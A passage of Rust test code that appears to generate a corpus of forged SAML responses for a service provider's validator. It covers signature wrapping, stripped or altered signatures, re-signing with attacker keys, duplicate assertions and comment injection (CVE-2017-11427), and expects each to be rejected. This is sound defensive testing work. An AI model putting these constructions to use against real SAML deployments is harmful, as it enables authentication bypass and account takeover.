                    &fx.assertion_with(evil_id, Some(&sig), true, ""),
                ],
            )
        }
        _ => unreachable!(),
    }
}

/// Other placements of the signed element and the attacker's copy.
fn other_wrapping(c: &mut Corpus) {
    let a = Fx::load("rsa-sha256-assertion.xml");
    let r = Fx::load("rsa-sha256-response.xml");
    let (issuer, status, open) = (
        a.resp_issuer.as_str(),
        a.status.as_str(),
        a.resp_open.as_str(),
    );
    let signed = a.assertion.as_str();
    let evil = a.assertion_with(EVIL_ID, None, true, "");
    const W: &str = "wrapping";

    // Two assertions anywhere in the document: refused before any assertion signature.
    c.reject(
        W,
        "evil-assertion-after-signed",
        a.response(open, &[issuer, status, signed, &evil]),
        R::MultipleAssertions,
    );
    c.reject(
        W,
        "evil-assertion-before-signed",
        a.response(open, &[issuer, status, &evil, signed]),
        R::MultipleAssertions,
    );
    let containers: [(&str, String, String); 4] = [
        (
            "extensions",
            "<samlp:Extensions>".into(),
            "</samlp:Extensions>".into(),
        ),
        (
            "ds-object",
            format!("<ds:Object xmlns:ds=\"{DSIG}\">"),
            "</ds:Object>".into(),
        ),
        (
            "unknown-element",
            "<evil:Wrapper xmlns:evil=\"urn:evil\">".into(),
            "</evil:Wrapper>".into(),
        ),
        (
            "samlp-response-child",
            "<samlp:ArtifactResponse>".into(),
            "</samlp:ArtifactResponse>".into(),
        ),
    ];
    for (label, start, end) in &containers {
        let moved = format!("{start}{signed}{end}");
        // With the attacker's assertion as the direct child: two assertions.
        let doc = if *label == "extensions" {
            a.response(open, &[issuer, &moved, status, &evil])
        } else {
            a.response(open, &[issuer, status, &moved, &evil])
        };
        c.reject(
            W,
            format!("signed-in-{label}-evil-direct"),
            doc,
            R::MultipleAssertions,
        );
        // Alone: the one assertion is not a direct child of the Response.
        let doc = if *label == "extensions" {
            a.response(open, &[issuer, &moved, status])
        } else {
            a.response(open, &[issuer, status, &moved])
        };
        c.reject(
            W,
            format!("signed-in-{label}-alone"),
            doc,
            R::SchemaViolation,
        );
    }
    let status_detail = rep(
        status,
        "</samlp:Status>",
        &format!("<samlp:StatusDetail>{signed}</samlp:StatusDetail></samlp:Status>"),
    );
    c.reject(
        W,
        "signed-in-statusdetail-evil-direct",
        a.response(open, &[issuer, &status_detail, &evil]),
        R::MultipleAssertions,
    );
    c.reject(
        W,
        "signed-in-statusdetail-alone",
        a.response(open, &[issuer, &status_detail]),
        R::SchemaViolation,
    );
    let with_advice = a.assertion_with(
        EVIL_ID,
        None,
        true,
        &format!("<saml:Advice>{signed}</saml:Advice>"),
    );
    c.reject(
        W,
        "signed-in-advice-of-evil",
        a.response(open, &[issuer, status, &with_advice]),
        R::MultipleAssertions,
    );
    c.reject(
        W,
        "signed-in-subject-of-evil",
        a.response(
            open,
            &[
                issuer,
                status,
                &rep(
                    &evil,
                    "</saml:Subject>",
                    &format!("{signed}</saml:Subject>"),
                ),
            ],
        ),
        R::MultipleAssertions,
    );

    // The attacker's copy takes the original's place.
    c.reject(
        W,
        "evil-copy-same-id-beside",
        a.response(
            open,
            &[
                issuer,
                status,
                &a.assertion_with(&a.assert_id, None, true, ""),
                signed,
            ],
        ),
        R::DuplicateId,
    );
    // Signature moved onto the attacker's copy (new ID), original dropped: the Reference
    // names an ID that is not the one of the element carrying the signature.
    let moved = a.assertion_with(EVIL_ID, a.a_sig.as_deref(), true, "");
    c.reject(
        W,
        "evil-copy-new-id-signature-moved",
        a.with_assertion(&moved),
        R::ReferenceInvalid,
    );
    // The Assertion's signature moved onto the Response (the Reference names the assertion).
    c.reject(
        W,
        "assertion-signature-moved-to-response",
        a.response(
            open,
            &[
                issuer,
                a.a_sig.as_deref().unwrap(),
                status,
                &a.assertion_unsigned(),
            ],
        ),
        R::ReferenceInvalid,
    );
    // ... and the Response given the assertion's ID so the Reference matches: the digest of
    // the Response is not the assertion's.
    let open_as_assertion = a.resp_open_with_id(&a.assert_id);
    c.reject(
        W,
        "assertion-signature-moved-to-response-with-its-id",
        a.response(
            &open_as_assertion,
            &[
                issuer,
                a.a_sig.as_deref().unwrap(),
                status,
                &a.assertion_with(EVIL_ID, None, true, ""),
            ],
        ),
        R::DigestMismatch,
    );
    // The Response's signature moved into the assertion (R).
    c.reject(
        W,
        "response-signature-moved-to-assertion",
        r.response(
            &r.resp_open,
            &[
                &r.resp_issuer,
                &r.status,
                &r.assertion_with(&r.assert_id, r.resp_sig.as_deref(), false, ""),
            ],
        ),
        R::ReferenceInvalid,
    );
    // Signed Response nested inside an evil Response (no direct assertion): the one assertion
    // is not a direct child of the root.
    let nested = a.response(
        &a.resp_open_with_id(EVIL_RESP_ID),
        &[issuer, status, body(&r.xml())],
    );
    c.reject(
        W,
        "signed-response-nested-in-evil-response",
        nested,
        R::SchemaViolation,
    );
    let nested = a.response(
        &a.resp_open_with_id(EVIL_RESP_ID),
        &[issuer, status, &evil, body(&r.xml())],
    );
    c.reject(
        W,
        "signed-response-nested-beside-evil-assertion",
        nested,
        R::MultipleAssertions,
    );
    // A second Response root: not well-formed XML.
    c.reject(
        W,
        "second-response-root",
        format!("{}{}", r.xml(), body(&a.xml())),
        R::MalformedXml,
    );
    c.reject(
        W,
        "evil-response-root-after-signed",
        format!(
            "{}{}",
            r.xml(),
            a.response(&a.resp_open_with_id(EVIL_RESP_ID), &[issuer, status, &evil])
                .replace(DECL, "")
        ),
        R::MalformedXml,
    );
    // The signed Response wrapped in a SOAP envelope / another root: not a Response.
    c.reject(W, "wrapped-in-soap-envelope", format!("{DECL}<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body>{}</soap:Body></soap:Envelope>", body(&r.xml())), R::NotAResponse);
    c.reject(
        W,
        "bare-signed-assertion-as-root",
        format!(
            "{DECL}{}",
            rep(
                signed,
                "<saml:Assertion ",
                "<saml:Assertion xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\" "
            )
        ),
        R::NotAResponse,
    );
}

/// Signatures taken away or their values changed.
fn signature_removed_or_altered(c: &mut Corpus) {
    let a = Fx::load("rsa-sha256-assertion.xml");
    let r = Fx::load("rsa-sha256-response.xml");
    let b = Fx::load("rsa-sha256-both.xml");
    const RM: &str = "signature-removed";
    const ALT: &str = "signature-altered";

    c.reject(
        RM,
        "assertion-signature-removed-A",
        a.with_assertion(&a.assertion_unsigned()),
        R::SignatureMissing,
    );
    c.reject(
        RM,
        "response-signature-removed-R",
        r.without_response_signature().xml(),
        R::SignatureMissing,
    );
    // B: the Response digest covers the Assertion's signature.
    c.reject(
        RM,
        "assertion-signature-removed-B",
        b.with_assertion(&b.assertion_unsigned()),
        R::DigestMismatch,
    );
    c.reject(
        RM,
        "both-signatures-removed-B",
        b.without_response_signature()
            .with_assertion(&b.assertion_unsigned()),
        R::SignatureMissing,
    );
    c.accept(
        RM,
        "response-signature-removed-B-assertion-still-signed",
        b.without_response_signature().xml(),
        c.base.clone(),
        xmlsec::NAME_ID,
    );
    c.reject(
        RM,
        "signature-emptied-A",
        rep(
            &a.xml(),
            a.a_sig.as_deref().unwrap(),
            "<ds:Signature xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\"/>",
        ),
        R::SignatureMalformed,
    );
    c.reject(
        RM,
        "signedinfo-removed-A",
        remove_el(&a.xml(), "<ds:SignedInfo>", "</ds:SignedInfo>"),
        R::SignatureMalformed,
    );
    c.reject(
        RM,
        "signaturevalue-removed-A",
        remove_el(&a.xml(), "<ds:SignatureValue>", "</ds:SignatureValue>"),
        R::SignatureMalformed,
    );
    c.reject(
        RM,
        "reference-removed-A",
        remove_el(&a.xml(), "<ds:Reference ", "</ds:Reference>"),
        R::ReferenceInvalid,
    );
    c.reject(
        RM,
        "digestvalue-removed-A",
        remove_el(&a.xml(), "<ds:DigestValue>", "</ds:DigestValue>"),
        R::SignatureMalformed,
    );
    c.reject(
        RM,
        "digestmethod-removed-A",
        rep(&a.xml(), SHA256_D, ""),
        R::SignatureMalformed,
    );
    c.reject(
        RM,
        "signaturevalue-empty-A",
        edit_text(&a.xml(), "<ds:Signature", "ds:SignatureValue", |_| {
            String::new()
        }),
        R::SignatureInvalid,
    );
    c.reject(
        RM,
        "digestvalue-empty-A",
        edit_text(&a.xml(), "<ds:Signature", "ds:DigestValue", |_| {
            String::new()
        }),
        R::DigestMismatch,
    );
    // The ds prefix bound to another namespace: no XML-DSig Signature is left.
    c.reject(
        RM,
        "signature-namespace-swapped-A",
        rep(
            &a.xml(),
            "<ds:Signature xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\">",
            "<ds:Signature xmlns:ds=\"http://www.w3.org/2000/09/xmldsig-evil#\">",
        ),
        R::SignatureMissing,
    );
    // Signature moved one level down (into Subject): the Assertion carries no signature.
    let sig = a.a_sig.as_deref().unwrap();
    c.reject(
        RM,
        "signature-moved-into-subject-A",
        a.with_assertion(&rep(
            &a.assertion_unsigned(),
            "<saml:Subject>",
            &format!("<saml:Subject>{sig}"),
        )),
        R::SignatureMissing,
    );

    for (label, name) in [
        ("A", "rsa-sha256-assertion.xml"),
        ("R", "rsa-sha256-response.xml"),
        ("ec256", "ecdsa-p256-sha256-assertion.xml"),
        ("ec384", "ecdsa-p384-sha384-both.xml"),
        ("sha512", "rsa-sha512-both.xml"),
    ] {
        let xml = fixture_text(name);
        let anchor = "<ds:Signature";
        c.reject(
            ALT,
            format!("signaturevalue-char-changed-{label}"),
            edit_text(&xml, anchor, "ds:SignatureValue", |t| flip_b64(t, 20)),
            R::SignatureInvalid,
        );
        c.reject(
            ALT,
            format!("signaturevalue-truncated-{label}"),
            edit_text(&xml, anchor, "ds:SignatureValue", |t| {
                tamper_b64(t, |v| v.truncate(v.len() - 8))
            }),
            R::SignatureInvalid,
        );
        c.reject(
            ALT,
            format!("signaturevalue-zeroed-{label}"),
            edit_text(&xml, anchor, "ds:SignatureValue", |t| {
                tamper_b64(t, |v| v.iter_mut().for_each(|b| *b = 0))
            }),
            R::SignatureInvalid,
        );
        c.reject(
            ALT,
            format!("digestvalue-char-changed-{label}"),
            edit_text(&xml, anchor, "ds:DigestValue", |t| flip_b64(t, 5)),
            R::DigestMismatch,
        );
    }
    let ec = fixture_text("ecdsa-p256-sha256-assertion.xml");
    c.reject(
        ALT,
        "ecdsa-r-and-s-swapped",
        edit_text(&ec, "<ds:Signature", "ds:SignatureValue", |t| {
            tamper_b64(t, |v| v.rotate_left(32))
        }),
        R::SignatureInvalid,
    );
    c.reject(
        ALT,
        "ecdsa-value-odd-length",
        edit_text(&ec, "<ds:Signature", "ds:SignatureValue", |t| {
            tamper_b64(t, |v| v.truncate(63))
        }),
        R::SignatureInvalid,
    );
    c.reject(
        ALT,
        "ecdsa-value-as-der",
        edit_text(&ec, "<ds:Signature", "ds:SignatureValue", |t| {
            tamper_b64(t, |v| {
                let r = openssl::bn::BigNum::from_slice(&v[..32]).unwrap();
                let s = openssl::bn::BigNum::from_slice(&v[32..]).unwrap();
                *v = EcdsaSig::from_private_components(r, s)
                    .unwrap()
                    .to_der()
                    .unwrap();
            })
        }),
        R::SignatureInvalid,
    );
    c.reject(
        ALT,
        "signaturevalue-not-base64-A",
        edit_text(&a.xml(), "<ds:Signature", "ds:SignatureValue", |_| {
            "%%not base64%%".into()
        }),
        R::SignatureMalformed,
    );
    c.reject(
        ALT,
        "digestvalue-not-base64-A",
        edit_text(&a.xml(), "<ds:Signature", "ds:DigestValue", |_| {
            "%%not base64%%".into()
        }),
        R::SignatureMalformed,
    );
    c.reject(
        ALT,
        "signature-duplicated-A",
        a.with_assertion(&a.assertion_with(&a.assert_id, Some(&format!("{sig}{sig}")), false, "")),
        R::SignatureMalformed,
    );
    c.reject(
        ALT,
        "second-keyinfo-A",
        rep(&a.xml(), "</ds:KeyInfo>", "</ds:KeyInfo><ds:KeyInfo/>"),
        R::SignatureMalformed,
    );
    c.reject(
        ALT,
        "object-in-signature-A",
        rep(
            &a.xml(),
            "</ds:KeyInfo>",
            "</ds:KeyInfo><ds:Object>x</ds:Object>",
        ),
        R::SignatureMalformed,
    );
}

/// Signed content changed after signing: the digest of the signed element no longer matches.
/// Changes that an earlier check sees first are noted with their own code.
fn signed_content_altered(c: &mut Corpus) {
    let a = fixture_text("rsa-sha256-assertion.xml");
    let r = fixture_text("rsa-sha256-response.xml");
    const W: &str = "content-altered";
    let in_assertion: &[(&str, &str, &str)] = &[
        (
            "nameid",
            ">alice@example.test</saml:NameID>",
            ">admin@example.test</saml:NameID>",
        ),
        (
            "nameid-padded",
            ">alice@example.test</saml:NameID>",
            "> alice@example.test </saml:NameID>",
        ),
        (
            "nameid-format",
            "nameid-format:emailAddress",
            "nameid-format:unspecified",
        ),
        (
            "spnamequalifier",
            "SPNameQualifier=\"https://sp.example.test/saml/metadata\"",
            "SPNameQualifier=\"https://sp.example.test/saml/metadata/\"",
        ),
        (
            "audience",
            "<saml:Audience>https://sp.example.test/saml/metadata</saml:Audience>",
            "<saml:Audience>https://other-sp.example.test/</saml:Audience>",
        ),
        (
            "audience-added",
            "</saml:AudienceRestriction>",
            "<saml:Audience>https://other.example.test/</saml:Audience></saml:AudienceRestriction>",
        ),
        (
            "audience-restriction-removed",
            "<saml:AudienceRestriction><saml:Audience>https://sp.example.test/saml/metadata</saml:Audience></saml:AudienceRestriction>",
            "",
        ),
        (
            "recipient",
            "Recipient=\"https://sp.example.test/",
            "Recipient=\"https://evil.example.test/",
        ),
        (
            "assertion-issuer",
            "<saml:Issuer>https://idp.example.test/metadata</saml:Issuer><ds:Signature",
            "<saml:Issuer>https://evil.example.test/</saml:Issuer><ds:Signature",
        ),
        (
            "conditions-notbefore",
            "NotBefore=\"2026-01-15T09:59:30Z\"",
            "NotBefore=\"2025-01-15T09:59:30Z\"",
        ),
        (
            "conditions-notonorafter",
            "NotOnOrAfter=\"2026-01-15T10:05:00Z\"><saml:Audience",
            "NotOnOrAfter=\"2036-01-15T10:05:00Z\"><saml:Audience",
        ),
        (
            "scd-notonorafter",
            "<saml:SubjectConfirmationData NotOnOrAfter=\"2026-01-15T10:05:00Z\"",
            "<saml:SubjectConfirmationData NotOnOrAfter=\"2036-01-15T10:05:00Z\"",
        ),
        (
            "scd-inresponseto",
            "Recipient=\"https://sp.example.test/EnticeServices/rest/authenticate/saml\" InResponseTo=\"_req-fedbridge-0001\"",
            "Recipient=\"https://sp.example.test/EnticeServices/rest/authenticate/saml\" InResponseTo=\"_req-evil\"",
        ),
        (
            "session-notonorafter",
            "SessionNotOnOrAfter=\"2026-01-15T18:00:00Z\"",
            "SessionNotOnOrAfter=\"2036-01-15T18:00:00Z\"",
        ),
        (
            "session-index",
            "SessionIndex=\"_session-0001\"",
            "SessionIndex=\"_session-evil\"",
        ),
        (
            "authn-instant",
            "AuthnInstant=\"2026-01-15T10:00:00Z\"",
            "AuthnInstant=\"2026-01-15T10:01:00Z\"",
        ),
        (
            "authn-context",
            "PasswordProtectedTransport",
            "MobileTwoFactorContract",
        ),
        (
            "subject-confirmation-method",
            "cm:bearer",
            "cm:holder-of-key",
        ),
        (
            "attribute-value",
            ">alice</saml:AttributeValue>",
            ">admin</saml:AttributeValue>",
        ),
        (
            "attribute-value-added",
            ">admins</saml:AttributeValue>",
            ">admins</saml:AttributeValue><saml:AttributeValue xsi:type=\"xs:string\">root</saml:AttributeValue>",
        ),
        ("attribute-name", "Name=\"groups\"", "Name=\"roles\""),
        (
            "attribute-added",
            "</saml:AttributeStatement>",
            "<saml:Attribute Name=\"role\"><saml:AttributeValue>admin</saml:AttributeValue></saml:Attribute></saml:AttributeStatement>",
        ),
        (
            "attribute-removed",
            "<saml:Attribute NameFormat=\"urn:oasis:names:tc:SAML:2.0:attrname-format:basic\" Name=\"sn\"><saml:AttributeValue xsi:type=\"xs:string\">Example</saml:AttributeValue></saml:Attribute>",
            "",
        ),
        (
            "assertion-issueinstant",
            "Version=\"2.0\" IssueInstant=\"2026-01-15T10:00:00Z\"><saml:Issuer>https://idp.example.test/metadata</saml:Issuer><ds:",
            "Version=\"2.0\" IssueInstant=\"2026-01-15T10:00:01Z\"><saml:Issuer>https://idp.example.test/metadata</saml:Issuer><ds:",
        ),
    ];
    for &(label, from, to) in in_assertion {
        // A: the Assertion's own signature breaks.
        c.reject(
            W,
            format!("{label}-A"),
            rep_after(&a, "<saml:Assertion ", from, to),
            R::DigestMismatch,
        );
        // R: the Response's signature (which covers the assertion) breaks; the R assertion has
        // no signature, so the anchor text before `<ds:` is adjusted.
        let from_r = from
            .replace("</saml:Issuer><ds:Signature", "</saml:Issuer><saml:Subject")
            .replace("</saml:Issuer><ds:", "</saml:Issuer><saml:");
        let to_r = to
            .replace("</saml:Issuer><ds:Signature", "</saml:Issuer><saml:Subject")
            .replace("</saml:Issuer><ds:", "</saml:Issuer><saml:");
        c.reject(
            W,
            format!("{label}-R"),
            rep_after(&r, "<saml:Assertion ", &from_r, &to_r),
            R::DigestMismatch,
        );
    }
    c.reject(
        W,
        "conditions-removed-A",
        remove_el(&a, "<saml:Conditions ", "</saml:Conditions>"),
        R::DigestMismatch,
    );
    c.reject(
        W,
        "authnstatement-removed-A",
        remove_el(&a, "<saml:AuthnStatement ", "</saml:AuthnStatement>"),
        R::DigestMismatch,
    );
    c.reject(W, "advice-added-A", rep(&a, "</saml:Conditions>", "</saml:Conditions><saml:Advice><saml:AssertionIDRef>_x</saml:AssertionIDRef></saml:Advice>"), R::DigestMismatch);
    // Response-level fields under the Response signature (R).
    c.reject(
        W,
        "destination-R",
        rep(
            &r,
            "Destination=\"https://sp.example.test/",
            "Destination=\"https://evil.example.test/",
        ),
        R::DigestMismatch,
    );
    c.reject(
        W,
        "response-inresponseto-R",
        rep(
            &r,
            "InResponseTo=\"_req-fedbridge-0001\">",
            "InResponseTo=\"_req-evil\">",
        ),
        R::DigestMismatch,
    );
    c.reject(
        W,
        "response-issuer-R",
        rep(
            &r,
            "<saml:Issuer>https://idp.example.test/metadata</saml:Issuer><ds:Signature",
            "<saml:Issuer>https://evil.example.test/</saml:Issuer><ds:Signature",
        ),
        R::DigestMismatch,
    );
    c.reject(
        W,
        "response-issueinstant-R",
        rep(
            &r,
            "IssueInstant=\"2026-01-15T10:00:00Z\" Destination",
            "IssueInstant=\"2026-01-15T10:00:01Z\" Destination",
        ),
        R::DigestMismatch,
    );
    // Changes that an earlier check catches first.
    // The Assertion Version is checked before its signature.
    c.reject(
        W,
        "assertion-version-A",
        rep_after(&a, "<saml:Assertion ", "Version=\"2.0\"", "Version=\"2.1\""),
        R::UnsupportedVersion,
    );
    // A new Assertion ID: the Reference no longer names it.
    c.reject(
        W,
        "assertion-id-A",
        rep(
            &a,
            "ID=\"_assert-rsa-sha256-assertion\"",
            "ID=\"_assert-evil\"",
        ),
        R::ReferenceInvalid,
    );
    // A new Response ID under the Response signature: same.
    c.reject(
        W,
        "response-id-R",
        rep(&r, "ID=\"_resp-rsa-sha256-response\"", "ID=\"_resp-evil\""),
        R::ReferenceInvalid,
    );
    // Status is checked before the Response signature.
    c.reject(
        W,
        "status-R",
        rep(&r, SUCCESS, "urn:oasis:names:tc:SAML:2.0:status:Requester"),
        R::StatusNotSuccess,
    );
}

/// Signatures made with keys the SP does not trust; KeyInfo is never a trust anchor.
fn attacker_keys(c: &mut Corpus) {
    const W: &str = "attacker-key";
    let attacker = private_key("attacker-rsa");
    let attacker_rsa = KeyKind::Rsa(&attacker, MessageDigest::sha256());
    let attacker_cert = cert_b64("attacker-rsa");
    let a = Fx::load("rsa-sha256-assertion.xml");
    let r = Fx::load("rsa-sha256-response.xml");
    let b = Fx::load("rsa-sha256-both.xml");
    let evil_a = a.with_assertion(&a.assertion_with(&a.assert_id, a.a_sig.as_deref(), true, ""));
    let evil_r = rep(&r.xml(), ">alice@example.test<", &format!(">{EVIL_NAME}<"));

    // Control: the same re-signing with the IdP's key is accepted (the signer is sound).
    c.accept(
        W,
        "control-resigned-with-idp-key-A",
        idp_signed(&a.xml(), &a.assert_id),
        c.base.clone(),
        xmlsec::NAME_ID,
    );
    c.accept(
        W,
        "control-resigned-with-idp-key-R",
        idp_signed(&r.xml(), &r.resp_id),
        c.base.clone(),
        xmlsec::NAME_ID,
    );

    let resigned_a = resign(&evil_a, &a.assert_id, &attacker_rsa);
    c.reject(
        W,
        "attacker-resigned-assertion-attacker-keyinfo",
        set_keyinfo_cert(&resigned_a, &a.assert_id, &attacker_cert),
        R::SignatureInvalid,
    );
    c.reject(
        W,
        "attacker-resigned-assertion-idp-keyinfo",
        resigned_a.clone(),
        R::SignatureInvalid,
    );
    c.reject(
        W,
        "attacker-resigned-assertion-no-keyinfo",
        remove_el(&resigned_a, "<ds:KeyInfo>", "</ds:KeyInfo>"),
        R::SignatureInvalid,
    );
    let resigned_r = resign(&evil_r, &r.resp_id, &attacker_rsa);
    c.reject(
        W,
        "attacker-resigned-response-attacker-keyinfo",
        set_keyinfo_cert(&resigned_r, &r.resp_id, &attacker_cert),
        R::SignatureInvalid,
    );
    // B: the attacker re-signs both (assertion first, then the Response over it).
    let evil_b = rep(&b.xml(), ">alice@example.test<", &format!(">{EVIL_NAME}<"));
    let both = resign(
        &set_keyinfo_cert(
            &resign(&evil_b, &b.assert_id, &attacker_rsa),
            &b.assert_id,
            &attacker_cert,
        ),
        &b.resp_id,
        &attacker_rsa,
    );
    c.reject(
        W,
        "attacker-resigned-both",
        set_keyinfo_cert(&both, &b.resp_id, &attacker_cert),
        R::SignatureInvalid,
    );
    c.reject(
        W,
        "attacker-signed-fixture",
        fixture_text("attacker-signed.xml"),
        R::SignatureInvalid,
    );
    // A fresh attacker ECDSA P-256 key (the SP trusts EC keys too).
    let ec = PKey::from_ec_key(
        EcKey::generate(&EcGroup::from_curve_name(Nid::X9_62_PRIME256V1).unwrap()).unwrap(),
    )
    .unwrap();
    let ec_fx = fixture_text("ecdsa-p256-sha256-assertion.xml");
    let ec_evil = rep(&ec_fx, ">alice@example.test<", &format!(">{EVIL_NAME}<"));
    let ec_id = "_assert-ecdsa-p256-sha256-assertion";
    c.reject(
        W,
        "attacker-ecdsa-key",
        resign(
            &ec_evil,
            ec_id,
            &KeyKind::Ec(&ec, MessageDigest::sha256(), 32),
        ),
        R::SignatureInvalid,
    );
    // The attacker's signed assertion wrapped next to / instead of the IdP's.
    let attacker_assertion = {
        let doc = resign(
            &a.with_assertion(&a.assertion_with(
                EVIL_ID,
                Some(&rep(
                    a.a_sig.as_deref().unwrap(),
                    &format!("URI=\"#{}\"", a.assert_id),
                    &format!("URI=\"#{EVIL_ID}\""),
                )),
                true,
                "",
            )),
            EVIL_ID,
            &attacker_rsa,
        );
        let start = doc.find("<saml:Assertion ").unwrap();
        let end = doc.find("</saml:Assertion>").unwrap() + "</saml:Assertion>".len();
        doc[start..end].to_string()
    };
    c.reject(
        W,
        "attacker-assertion-replaces-signed",
        a.with_assertion(&attacker_assertion),
        R::SignatureInvalid,
    );
    c.reject(
        W,
        "attacker-assertion-beside-signed",
        a.response(
            &a.resp_open,
            &[&a.resp_issuer, &a.status, &attacker_assertion, &a.assertion],
        ),
        R::MultipleAssertions,
    );
    // Into the IdP-signed Response: the Response's digest breaks first.
    c.reject(
        W,
        "attacker-assertion-into-signed-response",
        r.with_assertion(&attacker_assertion),
        R::DigestMismatch,
    );
    // Only the attacker's certificate trusted while the IdP really signed: the IdP certificate
    // in KeyInfo must not make it verify.
    let trusts_attacker = c.env(|e| e.idp.signing_keys = xmlsec_cert("attacker-rsa"));
    c.reject_in(
        W,
        "idp-signed-but-only-attacker-cert-trusted",
        a.xml(),
        trusts_attacker,
        R::SignatureInvalid,
    );
    // KeyInfo swapped to the attacker's certificate on an IdP signature: KeyInfo is ignored.
    c.accept(
        W,
        "idp-signed-keyinfo-swapped-to-attacker",
        set_keyinfo_cert(&a.xml(), &a.assert_id, &attacker_cert),
        c.base.clone(),
        xmlsec::NAME_ID,
    );
    c.accept(
        W,
        "idp-signed-keyinfo-removed",
        remove_el(&a.xml(), "<ds:KeyInfo>", "</ds:KeyInfo>"),
        c.base.clone(),
        xmlsec::NAME_ID,
    );
    // No trusted key of the signature's family.
    let ec_only = c.env(|e| {
        e.idp.signing_keys = xmlsec_cert("idp-ec256");
    });
    c.reject_in(
        W,
        "rsa-signed-only-ec-trusted",
        a.xml(),
        ec_only,
        R::NoSuitableKey,
    );
    let none = c.env(|e| e.idp.signing_keys.clear());
    c.reject_in(W, "no-trusted-keys", a.xml(), none, R::NoSuitableKey);
    let weak = c.env(|e| e.idp.signing_keys = xmlsec_cert("idp-rsa1024"));
    c.reject_in(W, "only-weak-rsa-key-trusted", a.xml(), weak, R::WeakKey);
    // The IdP key re-used with a different claimed algorithm family.
    let claimed_ec = rep(
        &a.xml(),
        RSA_SHA256_M,
        r#"<ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256"/>"#,
    );
    c.reject(
        W,
        "rsa-signature-claimed-ecdsa",
        claimed_ec,
        R::SignatureInvalid,
    );
    let claimed_rsa = rep(
        &ec_fx,
        r#"Algorithm="http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256""#,
        r#"Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256""#,
    );
    c.reject(
        W,
        "ecdsa-signature-claimed-rsa",
        claimed_rsa,
        R::SignatureInvalid,
    );
}

/// More than one assertion, plain or encrypted, or none where the Response expects one.
fn multiple_assertions(c: &mut Corpus) {
    const W: &str = "multiple-assertions";
    let a = Fx::load("rsa-sha256-assertion.xml");
    let (issuer, status, open) = (
        a.resp_issuer.as_str(),
        a.status.as_str(),
        a.resp_open.as_str(),
    );
    let other_signed = Fx::load("rsa-sha512-both.xml").assertion;
    let enc = fixture_text("enc-aes128cbc-assertion-signed.xml");
    let enc2 = fixture_text("enc-aes256gcm-assertion-signed.xml");
    let extract = |doc: &str| {
        let start = doc.find("<saml:EncryptedAssertion>").unwrap();
        let end =
            doc.find("</saml:EncryptedAssertion>").unwrap() + "</saml:EncryptedAssertion>".len();
        doc[start..end].to_string()
    };
    let (ea, ea2) = (extract(&enc), extract(&enc2));
    c.reject(
        W,
        "two-signed-assertions",
        a.response(open, &[issuer, status, &a.assertion, &other_signed]),
        R::MultipleAssertions,
    );
    c.reject(
        W,
        "two-copies-different-ids",
        a.response(
            open,
            &[
                issuer,
                status,
                &a.assertion,
                &a.assertion_with("_copy", a.a_sig.as_deref(), false, ""),
            ],
        ),
        R::MultipleAssertions,
    );
    c.reject(
        W,
        "plain-and-encrypted",
        a.response(open, &[issuer, status, &a.assertion, &ea]),
        R::MultipleAssertions,
    );
    c.reject(
        W,
        "encrypted-and-plain",
        a.response(open, &[issuer, status, &ea, &a.assertion]),
        R::MultipleAssertions,
    );
    c.reject(
        W,
        "two-encrypted-same",
        rep(&enc, &ea, &format!("{ea}{ea}")),
        R::MultipleAssertions,
    );
    c.reject(
        W,
        "two-encrypted-different",
        rep(&enc, &ea, &format!("{ea}{ea2}")),
        R::MultipleAssertions,
    );
    c.reject(
        W,
        "encrypted-in-extensions-plus-plain",
        a.response(
            open,
            &[
                issuer,
                &format!("<samlp:Extensions>{ea}</samlp:Extensions>"),
                status,
                &a.assertion,
            ],
        ),
        R::MultipleAssertions,
    );
    c.reject(
        W,
        "encrypted-in-advice-of-evil",
        a.response(
            open,
            &[
                issuer,
                status,
                &a.assertion_with(
                    EVIL_ID,
                    None,
                    true,
                    &format!("<saml:Advice>{ea}</saml:Advice>"),
                ),
            ],
        ),
        R::MultipleAssertions,
    );
    c.reject(
        W,
        "encrypted-not-direct-child",
        rep(
            &enc,
            &ea,
            &format!("<evil:W xmlns:evil=\"urn:evil\">{ea}</evil:W>"),
        ),
        R::SchemaViolation,
    );
    c.reject(
        W,
        "no-assertion",
        a.response(open, &[issuer, status]),
        R::NoAssertion,
    );
    c.reject(
        W,
        "no-assertion-signed-response",
        {
            let r = Fx::load("rsa-sha256-response.xml");
            r.with_assertion("")
        },
        R::DigestMismatch,
    );
}

/// Comments and processing instructions inside signed text values. Exclusive C14N without
/// comments drops comments but keeps PIs: a comment that adds text, and any PI, changes the
/// digest. A value that was signed with a comment inside is read in full (CVE-2017-11427).
fn comments_and_processing_instructions(c: &mut Corpus) {
    const W: &str = "comment-pi";
    let a = fixture_text("rsa-sha256-assertion.xml");
    let r = fixture_text("rsa-sha256-response.xml");
    let aid = "_assert-rsa-sha256-assertion";
    let name = ">alice@example.test</saml:NameID>";
    c.reject(
        W,
        "comment-plus-text-in-nameid-A",
        rep(
            &a,
            name,
            ">alice@example.test<!---->.evil.test</saml:NameID>",
        ),
        R::DigestMismatch,
    );
    c.reject(
        W,
        "comment-plus-text-in-nameid-R",
        rep(
            &r,
            name,
            ">alice@example.test<!---->.evil.test</saml:NameID>",
        ),
        R::DigestMismatch,
    );
    c.reject(
        W,
        "text-before-comment-in-nameid-A",
        rep(
            &a,
            name,
            ">admin@example.test<!--alice@example.test--></saml:NameID>",
        ),
        R::DigestMismatch,
    );
    c.reject(
        W,
        "pi-in-nameid-A",
        rep(&a, name, ">alice@<?evil x?>example.test</saml:NameID>"),
        R::DigestMismatch,
    );
    c.reject(
        W,
        "pi-in-nameid-R",
        rep(&r, name, ">alice@<?evil x?>example.test</saml:NameID>"),
        R::DigestMismatch,
    );
    c.reject(
        W,
        "comment-plus-text-in-attribute-A",
        rep(
            &a,
            ">alice</saml:AttributeValue>",
            ">alice<!---->admin</saml:AttributeValue>",
        ),
        R::DigestMismatch,
    );
    c.reject(
        W,
        "pi-in-attribute-A",
        rep(
            &a,
            ">admins</saml:AttributeValue>",
            "><?x?>admins</saml:AttributeValue>",
        ),
        R::DigestMismatch,
    );
    c.reject(
        W,
        "element-in-nameid-A",
        rep(&a, name, ">alice@example.test<x/></saml:NameID>"),
        R::DigestMismatch,
    );
